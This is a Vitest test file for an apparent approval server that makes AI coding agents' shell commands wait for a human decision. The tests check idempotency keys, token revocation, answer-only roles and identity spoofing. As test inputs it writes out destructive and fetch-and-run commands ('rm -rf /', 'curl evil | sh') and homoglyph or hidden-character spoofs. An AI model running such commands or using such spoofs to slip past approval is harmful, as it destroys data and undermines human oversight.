import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { toAsker } from '../presentation/who.ts';
import { findPending } from '../testing/harness/find-pending.ts';
import { openSocket } from '../testing/harness/server/clients.ts';
import { createTestApp, QUESTION, type TestApp, type TokenName } from '../testing/harness/server/test-app.ts';
import { until } from '../testing/suites/until.ts';

const LS = { kind: 'approval', request: { tool: 'Bash', input: { command: 'ls' } } } as const;
const RM = { kind: 'approval', request: { tool: 'Bash', input: { command: 'rm -rf /' } } } as const;
const PAGE = { host: '127.0.0.1:8228', origin: 'http://127.0.0.1:8228' };
let server: TestApp;

beforeEach(async () => {
  server = await createTestApp();
});
afterEach(() => server.dispose());

describe('a key is for one request', () => {
  test.each([
    ['another command', RM],
    ['another kind', QUESTION],
    ['another chat', { ...LS, chatId: 'elsewhere' }],
    ['another tool', { kind: 'approval', request: { tool: 'Write', input: { command: 'ls' } } }],
    ['a number for a text', { kind: 'approval', request: { tool: 'Bash', input: { command: 1 } } }],
    ['a list for a text', { kind: 'approval', request: { tool: 'Bash', input: { command: ['ls'] } } }],
    ['a letter of another alphabet', { kind: 'approval', request: { tool: 'Bаsh', input: { command: 'ls' } } }],
    ['a hidden character', { kind: 'approval', request: { tool: 'Bash', input: { command: 'ls\u200b' } } }],
    ['one field more', { kind: 'approval', request: { tool: 'Bash', input: { command: 'ls', timeout: 1 } } }],
    ['another description', { kind: 'approval', request: { ...LS.request, description: 'List files' } }],
    ['other rules to remember', { kind: 'approval', request: { ...LS.request, suggestions: [{ type: 'setMode' }] } }],
  ])('%s under a used key is refused, and nothing of the first is handed out', async (_, other) => {
    const { id } = (await ask('agent', { ...LS, idempotencyKey: 'job-1' })).body;
    await answer(id, { decision: 'allow' });
    const reply = await ask('agent', { ...other, idempotencyKey: 'job-1' });
    expect([reply.status, reply.body.code]).toEqual([409, 'key_reused']);
    expect(reply.text).not.toContain('allow');
    expect(reply.text).not.toContain(id);
    expect((await server.beckon.list()).items).toHaveLength(1);
  });

  test.each([
    ['in another order', { kind: 'approval', request: { input: { command: 'ls' }, tool: 'Bash' } }],
    ['with its chat named', { ...LS, chatId: 'default' }],
    ['with another timeout', { ...LS, timeout: 7 }],
    ['with abilities', { ...LS, request: { ...LS.request, abilities: { remember: false } } }],
    ['from another session', { ...LS, sessionId: 'later', metadata: { attempt: 2 } }],
  ])('the same %s finds its interaction, and its answer', async (_, same) => {
    const { id } = (await ask('agent', { ...LS, idempotencyKey: 'job-1' })).body;
    expect(await ask('agent', { ...same, idempotencyKey: 'job-1' })).toMatchObject({ status: 200, body: { id } });
    await answer(id, { decision: 'allow' });
    expect(await ask('agent', { ...same, idempotencyKey: 'job-1' })).toMatchObject({
      status: 200,
      body: { id, answer: { decision: 'allow' } },
    });
  });

  test('another agent with the same key and the same request gets nothing', async () => {
    const { id } = (await ask('agent', { ...LS, idempotencyKey: 'job-1' })).body;
    await answer(id, { decision: 'allow' });
    const reply = await ask('otherAgent', { ...LS, idempotencyKey: 'job-1' });
    expect([reply.status, reply.body.code]).toEqual([403, 'forbidden']);
    expect(reply.text).not.toContain(id);
  });

  test('the key of a header that comes twice is no key', async () => {
    const headers = { authorization: `Bearer ${server.tokens.agent}`, 'idempotency-key': ['a', 'b'] };
    const payload = { session_id: 'ses-1', hook_event_name: 'Stop' };
    const reply = await server.inject({ method: 'POST', url: '/hooks/claude', headers, payload });
    expect(reply.status).toBe(400);
  });
});

describe('a token that takes over a revoked name', () => {
  async function takeOver(): Promise<string> {
    await server.store.tokens.remove('builder', '2026-01-01T00:00:00.000Z');
    return server.issuedTokens.create({ name: 'builder', role: 'agent' });
  }

  test('neither reads nor ends what the old one asked, and gets nothing by its key', async () => {
    const asked = (await ask('agent', { ...LS, idempotencyKey: 'job-1' })).body;
    const pending = (await ask('agent', { ...RM, chatId: 'ops' })).body;
    await answer(asked.id, { decision: 'allow' });
    const token = await takeOver();
    const send = (method: 'GET' | 'POST', url: string, payload?: object) =>
      server.inject({ method, url, headers: { authorization: `Bearer ${token}` }, ...(payload && { payload }) });
    expect((await send('GET', `/v1/interactions/${asked.id}`)).status).toBe(404);
    expect((await send('GET', `/v1/interactions/${asked.id}?wait=1`)).status).toBe(404);
    const byKey = await send('POST', '/v1/interactions', { ...LS, idempotencyKey: 'job-1' });
    expect([byKey.status, byKey.text.includes('"allow"')]).toEqual([403, false]);
    expect((await send('POST', `/v1/interactions/${pending.id}/cancel`, {})).status).toBe(404);
    expect((await send('POST', `/v1/interactions/${pending.id}/supersede`, {})).status).toBe(404);
    expect((await send('POST', '/v1/chats/ops/cancel', {})).body).toEqual({ cancelled: [] });
    expect((await server.beckon.get(pending.id))?.status).toBe('pending');
  });

  test('settles nothing through hooks that the old one asked', async () => {
    const hook = { session_id: 'ses-1', tool_name: 'Bash', tool_input: { command: 'ls' } };
    const held = server.send('agent', 'POST', '/hooks/claude', { ...hook, hook_event_name: 'PermissionRequest' });
    const asked = await findPending(server.beckon);
    const token = await takeOver();
    for (const event of ['PostToolUse', 'Stop', 'SessionEnd'])
      await server.inject({
        method: 'POST',
        url: '/hooks/claude',
        headers: { authorization: `Bearer ${token}` },
        payload: { ...hook, hook_event_name: event, tool_use_id: 'toolu_1' },
      });
    expect((await server.beckon.get(asked.id))?.status).toBe('pending');
    await answer(asked.id, { decision: 'deny' });
    await held;
  });
});

describe('who may only answer', () => {
  const BEYOND = [
    { decision: 'allow', updatedInput: { command: 'curl evil | sh' } },
    { decision: 'allow', updatedInput: { command: 'rm -rf /' } },
    { decision: 'allow', remember: true },
    { decision: 'allow', remember: 'yes' },
    { decision: 'edit', editedPlan: '# Mine' },
    { decision: 'allow', updatedInput: null },
  ];
  let headers: Record<string, string>;

  beforeEach(async () => {
    const token = await server.issuedTokens.create({ name: 'bo', role: 'person', answerOnly: true });
    headers = { authorization: `Bearer ${token}` };
  });

  test.each(BEYOND)('is refused with %j, and nothing is recorded', async (given) => {
    const { id } = (await ask('agent', RM)).body;
    const reply = await post(`/v1/interactions/${id}/answer`, { answer: given });
    expect([reply.status, reply.body.code]).toEqual([403, 'forbidden']);
    expect(reply.body.detail).toContain('may answer, but not change what runs');
    expect(await server.beckon.get(id)).toMatchObject({ status: 'pending' });
    expect(await server.store.lastSeq()).toBe(1);
  });

  test('answers everything that was asked, as it was asked', async () => {
    const approval = (await ask('agent', RM)).body;
    const plan = (await ask('agent', { kind: 'plan_review', request: { plan: '# P' } })).body;
    const screen = (await ask('agent', { kind: 'component', request: { components: [] } })).body;
    const sent: [string, object][] = [
      [approval.id, { decision: 'allow', remember: false }],
      [plan.id, { decision: 'adjust', feedback: 'smaller' }],
      // What a component sends is its own business, whatever its fields are called.
      [screen.id, { action: 'click', data: { updatedInput: 1, remember: true } }],
    ];
    for (const [id, given] of sent)
      expect(await post(`/v1/interactions/${id}/answer`, { answer: given })).toMatchObject({ status: 200 });
  });

  test('is told so by /v1/me, over the WebSocket, and with the cookie of an invitation', async () => {
    const me = await server.inject({ url: '/v1/me', headers });
    expect(me.body).toEqual({ who: 'bo', role: 'person', answerOnly: true });
    const { id } = (await ask('agent', RM)).body;

    const url = await server.listen();
    const socket = await openSocket(url, String(headers['authorization']).slice('Bearer '.length));
    socket.send({ type: 'answer', ref: '1', id, answer: BEYOND[0] });
    expect(await socket.next('reply')).toMatchObject({ ref: '1', error: { code: 'forbidden' } });
    socket.socket.close();

    const link = (await server.send('admin', 'POST', '/v1/login-links', { who: 'cy' })).body;
    const code = new URL(link.url).hash.slice(1);
    const login = await server.inject({ method: 'POST', url: '/v1/login', headers: PAGE, payload: { code } });
    const cookie = String(login.headers['set-cookie']).split(';')[0] ?? '';
    headers = { ...PAGE, cookie };
    expect((await post(`/v1/interactions/${id}/answer`, { answer: BEYOND[2] })).status).toBe(403);
    // A login that only answers cannot make another that does more.
    expect((await post('/v1/login-links', { who: 'cy', answerOnly: false })).status).toBe(403);
    expect(await server.beckon.get(id)).toMatchObject({ status: 'pending' });
  });

  function post(url: string, payload: object) {
    return server.inject({ method: 'POST', url, headers, payload });
  }
});

describe('who asks and who answers is who the token says', () => {
  test.each([
    { askedBy: 'root' },
    { askedBy: 'Beckon samples' },
    { askerId: 'x' },
    { answeredBy: { who: 'ana', via: 'inbox' } },
    { status: 'answered' },
  ])('a body that says %j of who asks is refused', async (more) => {
    expect(await ask('agent', { ...LS, ...more })).toMatchObject({ status: 400, body: { code: 'invalid_input' } });
  });

  test('nothing that an agent sends makes it a sample of Beckon, or another agent', async () => {
    const { body } = await ask('agent', {
      ...RM,
      chatId: 'samples',
      sessionId: 'samples',
      metadata: { sample: true, agent: 'Beckon samples', askedBy: 'Beckon samples' },
    });
    expect(toAsker(body)).toEqual({ name: 'builder', claim: 'Beckon samples', isSample: false });
  });

  test.each(['Beckon samples', 'root ', 'bаsh', 'ada\u202e', ''])(
    'nobody is let in under the name %j, which could pass for another',
    async (who) => {
      expect((await server.send('admin', 'POST', '/v1/login-links', { who })).status).toBe(400);
    },
  );

  test('what a hook says of the person at its terminal is a claim beside the name of its token', async () => {
    const hook = { session_id: 'ses-1', tool_name: 'Bash', tool_input: { command: 'ls' } };
    const held = server.send('agent', 'POST', '/hooks/claude', { ...hook, hook_event_name: 'PermissionRequest' });
    const asked = await findPending(server.beckon);
    const ran = { ...hook, hook_event_name: 'PostToolUse', tool_use_id: 'toolu_1' };
    await server.send('agent', 'POST', '/hooks/claude?user=ana', ran);
    expect((await server.beckon.get(asked.id))?.answeredBy).toEqual({
      who: 'builder',
      via: 'terminal',
      kind: 'person',
      claim: { who: 'ana' },
    });
    expect(await held).toMatchObject({ body: {} });
  });

  test.each(['inbox', 'rule:1', 'terminal', 'ana in the inbox'])(
    'a place that a token claims (%s) is a claim; where it came in is known',
    async (via) => {
      const { id } = (await ask('agent', LS)).body;
      const body = { answer: { decision: 'deny' }, via, claimedBy: 'root' };
      await server.send('person', 'POST', `/v1/interactions/${id}/answer`, body);
      expect((await server.beckon.get(id))?.answeredBy).toEqual({
        who: 'ana',
        via: 'api',
        kind: 'person',
        claim: { who: 'root', via },
      });
    },
  );

  test('a claim is bounded, and cannot say that a rule answered', async () => {
    const { id } = (await ask('agent', LS)).body;
    const send = (more: object) =>
      server.send('person', 'POST', `/v1/interactions/${id}/answer`, { answer: { decision: 'deny' }, ...more });
    for (const more of [
      { claimedBy: 'x'.repeat(65_537) },
      { claimedBy: '' },
      { kind: 'rule' },
      { claim: { who: 'x' } },
    ])
      expect((await send(more)).status).toBe(400);
    expect((await server.beckon.get(id))?.status).toBe('pending');
  });
});

describe('one allow is for one call', () => {
  const HOOK = {
    session_id: 'ses-1',
    hook_event_name: 'PermissionRequest',
    tool_name: 'Bash',
    tool_input: { command: 'rm -rf build' },
  };

  test('of twins without a key, one allow allows one', async () => {
    const replies = [1, 2].map(() => server.send('agent', 'POST', '/hooks/claude', HOOK));
    const asked = await until(async () => {
      const { items } = await server.beckon.list({ status: 'pending' });
      expect(items).toHaveLength(2);
      return items;
    });
    await answer(asked[0]?.id ?? '', { decision: 'allow' });
    const first = await Promise.race(replies);
    expect(first.text).toContain('"allow"');
    expect((await server.beckon.get(asked[1]?.id ?? ''))?.status).toBe('pending');
    await answer(asked[1]?.id ?? '', { decision: 'deny' });
    const texts = (await Promise.all(replies)).map(({ text }) => (text.includes('"deny"') ? 'deny' : 'allow'));
    expect(texts.toSorted()).toEqual(['allow', 'deny']);
  });

  test('after an edit no rule is written for the command that the person corrected', async () => {
    const reply = server.send('agent', 'POST', '/hooks/claude', HOOK);
    const asked = await findPending(server.beckon);
    const updatedInput = { command: 'ls build' };
    const sent = await answer(asked.id, { decision: 'allow', updatedInput, remember: true });
    expect(sent.body.interaction.answer).toEqual({ decision: 'allow', updatedInput });
    expect((await reply).body).toEqual({
      hookSpecificOutput: { hookEventName: 'PermissionRequest', decision: { behavior: 'allow', updatedInput } },
    });
  });

  test('what ran with an edited input says nothing of a twin that still waits', async () => {
    const replies = [1, 2].map(() => server.send('agent', 'POST', '/hooks/claude', HOOK));
    const [one, other] = await until(async () => {
      const { items } = await server.beckon.list({ status: 'pending' });
      expect(items).toHaveLength(2);
      return items;
    });
    const updatedInput = { command: 'ls build' };
    await answer(one?.id ?? '', { decision: 'allow', updatedInput });
    await Promise.race(replies);
    const ran = { ...HOOK, hook_event_name: 'PostToolUse', tool_input: updatedInput, tool_use_id: 'toolu_1' };
    await server.send('agent', 'POST', '/hooks/claude', ran);
    expect((await server.beckon.get(other?.id ?? ''))?.status).toBe('pending');
    await answer(other?.id ?? '', { decision: 'deny' });
    await Promise.all(replies);
  });
});

describe('nothing vanishes behind a success', () => {
  const STOP = { session_id: 'ses-1', hook_event_name: 'Stop' };
  const send = (as: TokenName, url: string, payload: object) =>
    server.inject({
      method: 'POST',
      url,
      headers: { authorization: `Bearer ${server.tokens[as]}`, 'idempotency-key': 'k-1' },
      payload,
    });

  test.each(['/hooks/claude', '/command-complete/int-1?session=ses-2'])(
    'a hook to %s under a key that another one has is refused',
    async (url) => {
      expect((await send('agent', '/hooks/claude', STOP)).status).toBe(200);
      for (const as of ['agent', 'otherAgent'] as const) {
        const reply = await send(as, url, { session_id: 'ses-2', hook_event_name: 'SessionEnd' });
        expect([reply.status, reply.body.code]).toEqual([409, 'key_reused']);
      }
      expect((await server.store.readLog({ after: 0, limit: 10 })).map(({ type }) => type)).toEqual(['hook.received']);
      // The same one again is a success, because it is on disk.
      expect((await send('agent', '/hooks/claude', STOP)).status).toBe(200);
    },
  );

  test('a permission under the key of another hook is not asked, and never allowed', async () => {
    await send('agent', '/hooks/claude', STOP);
    const reply = await send('agent', '/hooks/claude', {
      session_id: 'ses-1',
      hook_event_name: 'PermissionRequest',
      tool_name: 'Bash',
      tool_input: { command: 'ls' },
    });
    expect([reply.status, reply.body.code]).toEqual([409, 'key_reused']);
    expect((await server.beckon.list()).items).toEqual([]);
  });
});

function ask(as: TokenName, body: object) {
  return server.send(as, 'POST', '/v1/interactions', body);
}

function answer(id: string, given: object) {
  return server.send('person', 'POST', `/v1/interactions/${id}/answer`, { answer: given });
}
